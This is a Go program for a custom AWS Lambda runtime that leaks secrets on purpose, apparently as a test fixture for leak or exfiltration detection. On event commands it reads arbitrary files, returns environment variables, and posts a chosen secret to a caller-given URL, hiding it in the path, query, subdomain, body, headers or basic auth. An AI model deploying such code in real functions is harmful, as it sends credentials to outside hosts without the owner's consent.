// Command spiller is a runtime without a library that gives its secrets away, as its
// event says: it prints a file, asks for something with a secret in it, or answers with
// one. It tells what it was answered, and nothing of what it asked.
package main

import (
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"os"
	"strings"
)

// order is the event.
type order struct {
	Print  string // a file
	Answer string // the name of a variable
	Ask    string // a URL
	Place  string // where the secret goes
	Secret string // the name of a variable
}

func main() {
	base := "http://" + os.Getenv("AWS_LAMBDA_RUNTIME_API") + "/2018-06-01/runtime/invocation/"
	api := &http.Client{Transport: &http.Transport{}}
	for {
		res, err := api.Get(base + "next")
		if err != nil {
			os.Exit(1)
		}
		var o order
		_ = json.NewDecoder(res.Body).Decode(&o) // another event asks for nothing
		_ = res.Body.Close()
		answer, _ := json.Marshal(handle(o))
		id := res.Header.Get("Lambda-Runtime-Aws-Request-Id")
		res, err = api.Post(base+id+"/response", "application/json", strings.NewReader(string(answer)))
		if err != nil {
			os.Exit(3)
		}
		_ = res.Body.Close()
	}
}

func handle(o order) string {
	switch {
	case o.Print != "":
		text, err := os.ReadFile(o.Print)
		if err != nil {
			return err.Error()
		}
		_, _ = os.Stdout.Write(text)
	case o.Answer != "":
		return "the answer is " + os.Getenv(o.Answer) + ", " + base64.StdEncoding.EncodeToString([]byte(os.Getenv(o.Answer)))
	case o.Ask != "":
		return ask(o)
	}
	return "done"
}

// ask asks with the secret in its place, and returns all that comes back.
func ask(o order) string {
	secret := os.Getenv(o.Secret)
	target, body := o.Ask, ""
	switch o.Place {
	case "path":
		target += "/" + url.PathEscape(secret)
	case "query":
		target += "/?q=" + url.QueryEscape(secret)
	case "host":
		target = strings.Replace(target, "://", "://"+secret+".", 1)
	case "body":
		body = "stolen: " + secret
	case "base64":
		body = base64.URLEncoding.EncodeToString([]byte("stolen: " + secret))
	}
	req, err := http.NewRequest(http.MethodPost, target, strings.NewReader(body))
	if err != nil {
		return "no request"
	}
	switch o.Place {
	case "header":
		req.Header.Set("X-Stolen", secret)
	case "name":
		req.Header.Set(secret, "stolen")
	case "login":
		req.SetBasicAuth("stolen", secret)
	}
	res, err := http.DefaultClient.Do(req)
	var quotes *url.Error // its text has the URL
	if errors.As(err, &quotes) {
		err = quotes.Err
	}
	if err != nil {
		return err.Error()
	}
	text, _ := io.ReadAll(res.Body)
	_ = res.Body.Close()
	return fmt.Sprintf("%s %v %s", res.Status, res.Header, text)
}
